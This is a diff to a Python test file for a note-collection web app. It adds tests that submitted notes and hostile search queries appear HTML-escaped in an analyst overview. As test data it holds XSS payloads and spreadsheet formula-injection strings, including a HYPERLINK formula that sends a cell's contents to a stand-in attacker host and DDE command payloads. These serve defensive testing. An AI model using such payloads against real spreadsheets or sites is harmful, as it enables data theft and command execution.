@@ -15,7 +15,8 @@ from markupsafe import escape
 from sqlalchemy import select
 
 from delib.extensions import db
-from delib.models import Committee, Note, Participant, Summary
+from delib.models import Committee, Note, Participant, SubmissionNote, Summary, utcnow
+from delib.models import Submission as SubmissionModel
 from delib.sanitize import ALLOWED_TAGS, clean_html, one_line, plain_text, spreadsheet_cell
 from tests.conftest import HX, text_of
 
@@ -303,3 +304,46 @@ class TestReviewAndExports:
 #: Spreadsheet formulas a note might (maliciously) start with.
 FORMULAS = ['=HYPERLINK("http://angriber.example/?"&A1;"Klik")', "+45 12 34 56 78",
             "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+class TestKlOverview:
+    """What KL reads and searches: submitted notes with the corpus, and hostile queries."""
+
+    @pytest.fixture
+    def kl_client(self, app, event, make_user, make_committee, make_client):
+        committee = make_committee()
+        submission = SubmissionModel(
+            committee=committee, event=event, municipality_code=committee.municipality_code,
+            version=1, submitted_by_name="Formand", show_authors=False)
+        for payload in CORPUS:
+            SubmissionNote(submission=submission, event_id=event.id,
+                           municipality_code=committee.municipality_code,
+                           body=stored_form(payload) + " skolefravær", written_at=utcnow(),
+                           slot_id=event.slots[0].id)
+        db.session.add(submission)
+        db.session.commit()
+        analyst = make_user(role="kl_analyst", municipality=None, email="analytiker@kl.dk")
+        client, auth = make_client()
+        auth.login(analyst.email)
+        return client
+
+    def test_submitted_notes_are_escaped_in_the_overview_and_search(self, kl_client):
+        listing = kl_client.get("/kl/noter").get_data(as_text=True)
+        searched = kl_client.get("/kl/noter", query_string={"q": "skolefravær"})
+        assert searched.status_code == 200
+        for payload in CORPUS:
+            assert_shown_escaped(listing, stored_form(payload), "KL notes")
+        html = searched.get_data(as_text=True)
+        assert "<mark>" in html
+        for fragment in DANGEROUS:
+            assert fragment not in html
+
+    @pytest.mark.parametrize("query", ["<script>alert(1)</script>", '"><svg onload=alert(1)>',
+                                       "\x00\u202e", "æøå " * 500])
+    def test_hostile_queries_come_back_escaped(self, kl_client, query):
+        response = kl_client.get("/kl/noter", query_string={"q": query})
+        assert response.status_code == 200
+        html = response.get_data(as_text=True)
+        for fragment in DANGEROUS:
+            assert fragment not in html
+        assert "\u202e" not in html and "\x00" not in html
